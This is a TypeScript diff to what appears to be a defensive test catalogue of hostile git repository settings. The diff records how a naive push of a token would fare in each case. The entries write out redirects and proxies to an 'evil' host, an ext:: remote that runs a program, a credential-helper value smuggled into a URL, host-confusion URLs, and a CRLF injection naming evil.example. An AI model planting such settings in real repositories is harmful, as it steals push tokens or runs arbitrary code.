@@ -12,28 +12,35 @@ export interface Arranged {
   readonly canary: string;
 }
 
-/** Each line of the catalogue: how the repository attacks, and how the push must end. */
+/** What becomes of the token when it is pushed with as others do: from the person's repository, by a header of git. */
+export type Naively = 'heard' | 'robbed by a program' | 'harmless';
+
+/** Each line of the catalogue: how the repository attacks, how our push must end, and how a naive one ends. */
 export const attacks: readonly (readonly [
   string,
   (arranged: Arranged) => Promise<unknown>,
   'pushed' | 'pushUrlElsewhere' | 'remoteRefused',
+  Naively,
 ])[] = [
   [
     'A01 url.<evil>.insteadOf',
     ({ tree, evil }) => tree.git('config', `url.${evil.url}/.insteadOf`, 'https://github.com/'),
     'pushed',
+    'heard',
   ],
   [
     'A02 pushurl to another host',
     ({ tree, evil }) => tree.git('config', 'remote.origin.pushurl', `${evil.url}/acme/app.git`),
     'pushUrlElsewhere',
+    'heard',
   ],
   [
     'A02 url.<evil>.pushInsteadOf',
     ({ tree, evil }) => tree.git('config', `url.${evil.url}/.pushInsteadOf`, 'https://github.com/'),
     'pushUrlElsewhere',
+    'heard',
   ],
-  ['A03 http.proxy', ({ tree, evil }) => tree.git('config', 'http.proxy', evil.url), 'pushed'],
+  ['A03 http.proxy', ({ tree, evil }) => tree.git('config', 'http.proxy', evil.url), 'pushed', 'harmless'],
   [
     'A03 http.<full url>.proxy',
     async ({ tree, evil }) => {
@@ -42,6 +49,7 @@ export const attacks: readonly (readonly [
       await tree.git('config', 'remote.origin.proxy', evil.url);
     },
     'pushed',
+    'heard',
   ],
   [
     'A07 credential.helper',
@@ -51,6 +59,7 @@ export const attacks: readonly (readonly [
       await tree.git('config', 'core.askPass', canary);
     },
     'pushed',
+    'harmless',
   ],
   [
     'A10 programs named by the file',
@@ -76,11 +85,13 @@ export const attacks: readonly (readonly [
       await writeFile(join(tree.folder, '.git', 'info', 'attributes'), '* filter=x diff=x\n');
     },
     'pushed',
+    'harmless',
   ],
   [
     'A11 push.recurseSubmodules',
     ({ tree }) => tree.git('config', 'push.recurseSubmodules', 'on-demand'),
     'pushed',
+    'harmless',
   ],
   [
     'A13 include.path and includeIf',
@@ -94,8 +105,14 @@ export const attacks: readonly (readonly [
       await tree.git('config', 'includeIf.gitdir:**.path', included);
     },
     'pushed',
+    'heard',
   ],
-  ['A15 remote.origin.vcs', ({ tree }) => tree.git('config', 'remote.origin.vcs', 'ext'), 'remoteRefused'],
+  [
+    'A15 remote.origin.vcs',
+    ({ tree }) => tree.git('config', 'remote.origin.vcs', 'ext'),
+    'remoteRefused',
+    'harmless',
+  ],
   [
     'A15 an ext:: remote',
     async ({ tree, canary }) => {
@@ -103,39 +120,46 @@ export const attacks: readonly (readonly [
       await tree.git('config', 'remote.origin.url', `ext::${canary} %S`);
     },
     'remoteRefused',
+    'robbed by a program',
   ],
   [
     'A15 a file:// remote',
     ({ tree }) => tree.git('config', 'remote.origin.url', 'file:///srv/acme/app.git'),
     'remoteRefused',
+    'harmless',
   ],
   [
     'A15 an http:// remote',
     ({ tree }) => tree.git('config', 'remote.origin.url', 'http://github.com/acme/app.git'),
     'remoteRefused',
+    'harmless',
   ],
   [
     'A21 a remote URL that would be a configuration key',
     ({ tree, canary }) =>
       tree.git('config', 'remote.origin.url', `https://github.com:443.helper=!${canary}/o/r`),
     'remoteRefused',
+    'harmless',
   ],
   [
     'B01 a host that only looks like it',
     ({ tree, evil }) =>
       tree.git('config', 'remote.origin.url', `https://github.com@127.0.0.1:${evil.port}/acme/app`),
     'remoteRefused',
+    'harmless',
   ],
   [
     'B02 a host two readers read differently',
     ({ tree, evil }) =>
       tree.git('config', 'remote.origin.url', `https://github.com\\@127.0.0.1:${evil.port}/acme/app`),
     'remoteRefused',
+    'harmless',
   ],
   [
     'B03 an encoded line break',
     ({ tree }) =>
       tree.git('config', 'remote.origin.url', 'https://github.com/acme/app%0d%0ahost=evil.example'),
     'remoteRefused',
+    'harmless',
   ],
 ];
